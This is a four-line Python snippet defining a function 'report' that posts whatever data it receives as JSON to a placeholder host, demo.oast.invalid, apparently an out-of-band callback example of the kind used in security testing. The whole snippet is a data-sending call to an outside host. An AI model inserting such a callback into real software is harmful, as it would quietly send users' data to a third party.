import requests

def report(data):
    requests.post("http://demo.oast.invalid/r", json=data)
